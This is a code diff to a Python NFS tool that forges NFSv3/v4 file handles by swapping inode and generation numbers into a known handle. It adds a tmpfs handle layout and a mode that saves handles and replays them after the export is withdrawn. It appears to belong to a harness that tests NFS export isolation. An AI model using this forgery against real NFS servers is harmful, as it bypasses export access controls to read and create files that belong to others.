@@ -331,12 +331,15 @@ def _targets(spec):
 
 
 def _forge(fh, offsets, ino, gen):
-    """``fh`` with another inode and generation at each place the known inode sits, in both layouts the
-    kernel uses: 32-bit inode + generation (ext4), 64-bit inode + generation (XFS with its 64FLAG)."""
+    """``fh`` with another inode and generation at each place the known inode sits, in the layouts the
+    kernel uses: 32-bit inode + generation (ext4), 64-bit inode + generation (XFS with its 64FLAG),
+    generation + 64-bit inode (tmpfs)."""
     for off in offsets:
         yield replace_at(fh, off, struct.pack('<II', ino, gen))
         if off + 12 <= len(fh):
             yield replace_at(fh, off, struct.pack('<QI', ino, gen))
+        if off >= 4 and off + 8 <= len(fh):
+            yield replace_at(fh, off - 4, struct.pack('<IQ', gen, ino))
 
 
 def _try(what, func, *args):
@@ -361,17 +364,25 @@ def forge_v3(spec):
     are, with this export's id, and this export's id with their file system. Every object that
     answers is reported with its fsid and fileid, every READ with its data (hex), every CREATE.
     """
-    server, known, names = spec['server'], spec['known'], spec['names']
-    status, root = mount3(server, spec['export'])
-    if status != 0:
-        return [{'op': 'mount', 'status': status}]
-    nfs = Nfs3(server)
-    seen = [{'op': 'mount', 'status': 0, 'fsid': _attr(nfs, root)['fsid']}]
-    status, fh = nfs.walk(root, known)
-    ino = _attr(nfs, fh)['fileid']
+    server, names = spec['server'], spec['names']
+    nfs, replayed = None, []
+    if spec.get('saved'):  # handles this Pi learned earlier (learn3), replayed once its export is gone
+        saved = spec['saved']
+        root, fh, ino = bytes.fromhex(saved['root']), bytes.fromhex(saved['known']), saved['ino']
+        replayed = [('saved root', root), ('saved known', fh)]
+        seen = [{'op': 'mount', 'status': 'saved handles'}]
+    else:
+        status, root = mount3(server, spec['export'])
+        if status != 0:
+            return [{'op': 'mount', 'status': status}]
+        nfs = Nfs3(server)
+        seen = [{'op': 'mount', 'status': 0, 'fsid': _attr(nfs, root)['fsid']}]
+        status, fh = nfs.walk(root, spec['known'])
+        ino = _attr(nfs, fh)['fileid']
+    nfs = nfs or Nfs3(server)
     offsets = find_le32(fh, ino)
-    forged = [('ino %d gen %d' % (inode, gen), forged_fh) for inode, gen in _targets(spec)
-              for forged_fh in _forge(fh, offsets, inode, gen)]
+    forged = replayed + [('ino %d gen %d' % (inode, gen), forged_fh) for inode, gen in _targets(spec)
+                         for forged_fh in _forge(fh, offsets, inode, gen)]
     for text in spec.get('foreign', ()):
         other = bytes.fromhex(text)
         forged.append(('foreign handle', other))
@@ -433,12 +444,23 @@ def forge_v4(spec):
 
 
 def main(argv=None):
-    """``rawnfs.py forge3|forge4|handle3 <json>``: run from a Pi's namespace; prints JSON."""
+    """``rawnfs.py forge3|forge4|handle3|learn3 <json>``: run from a Pi's namespace; prints JSON."""
     args = sys.argv[1:] if argv is None else argv
     spec = json.loads(args[1])
     if args[0] == 'handle3':
         status, fh = mount3(spec['server'], spec['export'])
         print(json.dumps({'status': status, 'handle': fh.hex() if fh else None}))
+        return
+    if args[0] == 'learn3':  # what a Pi holds while its export is served: its root's and a file's handles
+        status, root = mount3(spec['server'], spec['export'])
+        nfs = Nfs3(spec['server'])
+        try:
+            status, fh = nfs.walk(root, spec['known']) if status == 0 else (status, None)
+            ino = _attr(nfs, fh)['fileid'] if fh else None
+        finally:
+            nfs.close()
+        print(json.dumps({'status': status, 'root': root.hex() if root else None, 'known': fh.hex() if fh else None,
+                          'ino': ino}))
         return
     print(json.dumps((forge_v3 if args[0] == 'forge3' else forge_v4)(spec)))
 
